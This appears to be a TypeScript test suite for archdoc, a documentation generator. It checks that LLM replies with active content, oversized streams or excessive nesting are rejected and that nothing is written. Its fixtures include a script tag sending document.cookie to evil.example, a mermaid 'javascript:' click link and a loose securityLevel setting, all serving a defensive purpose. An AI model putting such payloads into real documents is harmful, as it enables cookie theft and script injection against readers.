/**
 * The regenerate gate and an untrusted reply (SPEC §6): active content goes back to the model as a
 * finding whatever the config says about the rule, and an oversized reply is refused while it streams.
 * Against the fake LLM on 127.0.0.1 (OpenAI and Anthropic protocols).
 */
import { proposeRegeneration, type ProposeOptions } from '../../src/generate/propose.js';
import { MAX_RESPONSE_BYTES } from '../../src/generate/providers/transport.js';
import { useFakeLlm } from '../../test-support/fake-llm/harness.js';
import { recordRetries } from '../../test-support/fake-llm/retry-recorder.js';
import type { FakeLlm, RecordedRequest } from '../../test-support/fake-llm/server.js';
import { GOOD_DOC, REQUIREMENTS } from './fixtures.js';

const KEY = 'sk-test-UNSAFE-GATE-0123456789';
const server = useFakeLlm();

const SCRIPT_DOC = GOOD_DOC.replace(
  '## 2. Container Architecture',
  'See the <script>fetch("https://evil.example/?k="+document.cookie)</script> notes.\n\n## 2. Container Architecture',
);
const INIT_DOC = GOOD_DOC.replace('```mermaid\nC4Context', '```mermaid\n%%{init: {"securityLevel":"loose"}}%%\nC4Context');
const CLICK_DOC = GOOD_DOC.replace(
  '## 4. API Design Strategy',
  '```mermaid\nflowchart LR\n  A[Web app] --> B[API]\n  click A href "javascript:alert(1)"\n```\n\n## 4. API Design Strategy',
);

const UNSAFE: [string, string, RegExp][] = [
  ['a <script> element', SCRIPT_DOC, /unsafe-content: Raw `<script>` element/],
  ['%%{init}%% setting securityLevel to loose', INIT_DOC, /unsafe-content: mermaid configuration sets securityLevel to "loose"/],
  ['click A href "javascript:alert(1)"', CLICK_DOC, /unsafe-content: mermaid `click` with a `javascript:` URL/],
];

function propose(s: FakeLlm, extra: Partial<ProposeOptions> = {}, provider = 'openai') {
  return proposeRegeneration({
    llm: {
      provider,
      model: 'test-model',
      apiKey: KEY,
      baseUrl: provider === 'anthropic' ? s.anthropicBaseUrl : s.openaiBaseUrl,
      env: {},
      retry: recordRetries().retry,
    },
    template: 'architecture',
    readTemplate: () => {
      throw new Error('built-in template: nothing to read');
    },
    requirements: [{ path: 'docs/01_requirements.md', text: REQUIREMENTS }],
    currentDoc: undefined,
    docPath: 'docs/02_architecture.md',
    now: () => new Date('2026-03-01T12:00:00.000Z'),
    ...extra,
  });
}

const lastUserTurn = (r: RecordedRequest) => {
  const messages = (r.body as { messages: { role: string; content: string }[] }).messages;
  return messages[messages.length - 1].content;
};

describe.each(UNSAFE)('a reply with %s', (_name, reply, finding) => {
  test('goes back to the model as an unsafe-content finding, and the clean answer is accepted', async () => {
    server().reply({ text: reply }, { text: GOOD_DOC });
    const r = await propose(server());
    expect(r.status).toBe('ok');
    expect(r.rounds.map((x) => x.outcome)).toEqual(['findings', 'accepted']);
    expect(lastUserTurn(server().requests[1])).toMatch(finding);
    expect(r.text).not.toMatch(/<script>|securityLevel|javascript:/);
  });

  test('is refused even when the config turns unsafe-content off; three such replies write nothing', async () => {
    server().reply({ text: reply }, { text: reply }, { text: reply });
    const r = await propose(server(), { rules: { 'unsafe-content': 'off' } });
    expect(r.status).toBe('failed');
    expect(r.calls).toBe(3);
    expect(r.text).toBeUndefined();
    expect(r.diff).toBe('');
    expect(r.findings.map((f) => f.rule)).toContain('unsafe-content');
    expect(r.reason).toMatch(/did not pass the gate after 3 attempts: .*unsafe-content at \d+:\d/);
    expect(r.reason).toMatch(/nothing was written$/);
    for (const req of server().requests.slice(1)) expect(lastUserTurn(req)).toMatch(finding);
  });

  test('a config that lowers unsafe-content to a warning does not let it through either', async () => {
    server().reply({ text: reply }, { text: reply });
    const r = await propose(server(), { rules: { 'unsafe-content': 'warning' }, maxAttempts: 2 });
    expect(r.status).toBe('failed');
    expect(r.text).toBeUndefined();
  });
});

describe.each(['openai', 'anthropic'])('an oversized reply over %s', (provider) => {
  test('a 12 MB answer is refused as it streams, with a clear message, and never fully read', async () => {
    const huge = `${GOOD_DOC}\n${'padding line of an endless document\n'.repeat((12 * 1024 * 1024) / 36)}`;
    server().reply({ text: huge, chunkBytes: 64 * 1024 });
    const r = await propose(server(), { rules: { 'unsafe-content': 'off' } }, provider);
    expect(r.status).toBe('failed');
    expect(r.text).toBeUndefined();
    expect(r.error?.kind).toBe('bad-response');
    expect(r.reason).toMatch(
      new RegExp(`the reply is larger than ${MAX_RESPONSE_BYTES / 1024 / 1024} MB, the most archdoc reads from an LLM.*nothing was written`),
    );
    expect(r.reason.split('\n')).toHaveLength(1);
    // The server saw the client hang up long before the end.
    const sent = server().requests[0].response;
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(sent.complete).toBe(false);
    expect(sent.bytesSent).toBeLessThan(huge.length / 2);
  });
});

describe("a reply beyond archdoc's structural limits", () => {
  test('is sent back naming the limit, and a good answer after it is accepted', async () => {
    const deep = GOOD_DOC.replace('## 2. Container Architecture', `${'>'.repeat(50_000)} quoted\n\n## 2. Container Architecture`);
    server().reply({ text: deep }, { text: GOOD_DOC });
    const r = await propose(server());
    expect(r.status).toBe('ok');
    expect(r.rounds.map((x) => x.outcome)).toEqual(['findings', 'accepted']);
    expect(lastUserTurn(server().requests[1])).toMatch(/lists and quotes nested over 999 deep; archdoc reads nesting up to 32 levels/);
    // The oversized reply is not sent back whole.
    const turns = (server().requests[1].body as { messages: { content: string }[] }).messages;
    expect(turns.every((m) => m.content.length < 10_000)).toBe(true);
  });

  test('every reply beyond the limits: a clear failure, nothing written', async () => {
    const wide = GOOD_DOC.replace('## 2. Container Architecture', `${'word '.repeat(20_000)}\n\n## 2. Container Architecture`);
    server().reply({ text: wide }, { text: wide });
    const r = await propose(server(), { maxAttempts: 2 });
    expect(r.status).toBe('failed');
    expect(r.text).toBeUndefined();
    expect(r.reason).toMatch(/did not pass the gate after 2 attempts: .*line is 98 KB long; archdoc reads lines up to 64 KB/);
  });
});
